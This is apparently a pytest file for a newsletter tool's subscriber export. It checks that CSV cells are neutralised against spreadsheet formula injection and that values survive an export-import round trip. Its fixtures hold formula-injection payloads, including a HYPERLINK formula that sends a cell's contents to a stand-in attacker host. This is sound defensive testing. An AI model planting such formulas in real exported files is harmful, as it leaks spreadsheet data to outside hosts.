"""`digest subscribers export` as a process, on SQLite and PostgreSQL: no CSV cell opens as a
spreadsheet formula, JSON Lines stays exact, and CSV export -> import gives back every value."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

from sqlalchemy import delete

from digest.pipeline.csv_cells import FORMULA_STARTS, neutralised_cell, restored_cell
from digest.store.db import Database
from digest.store.models import Subscriber
from tests.cli.command import digest
from tests.cli.test_import import environment

HOSTILE_ROWS: list[dict[str, Any]] = [
    {
        "email": "=cmd@example.com",
        "topics": ['=HYPERLINK("https://evil.example/?"&B1)', "graphs"],
        "authors": ["@SUM(1+1)"],
    },
    {"email": "-minus@example.com", "topics": ["+1 555 0100"], "authors": ["-2+3"]},
    {"email": "plain@example.com", "topics": ["'=already quoted", "''@twice"], "authors": ["'x"]},
    {"email": "+plus@example.com", "topics": ["@mention"], "authors": ["Ada Lovelace"]},
]
CONSENT = '=HYPERLINK("https://evil.example")'
PREFERENCES = (
    "email",
    "topics",
    "categories",
    "authors",
    "timezone",
    "send_hour",
    "frequency",
    "send_weekday",
    "edition_size",
)


def import_file(path: Path, env: dict[str, str], cwd: Path) -> None:
    result = digest(
        ["subscribers", "import", str(path), "--confirmed", "--consent", CONSENT], env, cwd
    )
    assert result.returncode == 0, result.stderr
    assert "invalid 0" in result.stdout, result.stderr


def export(file_format: str, env: dict[str, str], cwd: Path) -> str:
    result = digest(["subscribers", "export", "--format", file_format], env, cwd)
    assert result.returncode == 0, result.stderr
    return result.stdout


def preferences(jsonl: str) -> list[dict[str, Any]]:
    rows = [json.loads(line) for line in jsonl.splitlines()]
    return [{name: row[name] for name in PREFERENCES} for row in rows]


def test_no_csv_cell_starts_a_formula_and_json_lines_stay_exact(
    db: Database, tmp_path: Path
) -> None:
    env = environment(db.url)
    source = tmp_path / "hostile.jsonl"
    source.write_text("\n".join(json.dumps(row) for row in HOSTILE_ROWS) + "\n", encoding="utf-8")
    import_file(source, env, tmp_path)

    cells = [cell for row in csv.reader(io.StringIO(export("csv", env, tmp_path))) for cell in row]
    jsonl = export("jsonl", env, tmp_path)

    assert cells, "the export wrote nothing"
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert f"'{CONSENT}" in cells and "'=cmd@example.com" in cells
    exported = {row["email"]: row for row in map(json.loads, jsonl.splitlines())}
    for row in HOSTILE_ROWS:
        assert exported[row["email"]]["topics"] == row["topics"]
        assert exported[row["email"]]["authors"] == row["authors"]
        assert exported[row["email"]]["consent"] == CONSENT


def test_csv_export_then_import_keeps_every_value(db: Database, tmp_path: Path) -> None:
    env = environment(db.url)
    source = tmp_path / "hostile.jsonl"
    source.write_text("\n".join(json.dumps(row) for row in HOSTILE_ROWS) + "\n", encoding="utf-8")
    import_file(source, env, tmp_path)
    before = preferences(export("jsonl", env, tmp_path))
    csv_file = tmp_path / "export.csv"
    csv_file.write_text(export("csv", env, tmp_path), encoding="utf-8")
    with db.session() as session:
        session.execute(delete(Subscriber))

    import_file(csv_file, env, tmp_path)

    assert preferences(export("jsonl", env, tmp_path)) == before
    assert {row["email"] for row in before} == {row["email"] for row in HOSTILE_ROWS}


def test_the_quote_rule_is_its_own_inverse() -> None:
    values = ["", "'", "''", "=1", "'=1", "''=1", "+", "-x", "@", "\tx", "\rx", "'a", "a=1"]
    for value in values:
        cell = neutralised_cell(value)
        assert not cell.startswith(FORMULA_STARTS)
        assert restored_cell(cell) == value


def test_every_csv_we_write_goes_through_the_neutralising_writer() -> None:
    package = Path(__file__).resolve().parents[2] / "digest"
    helper = package / "pipeline" / "csv_cells.py"
    raw_writers = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path != helper and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert raw_writers == []
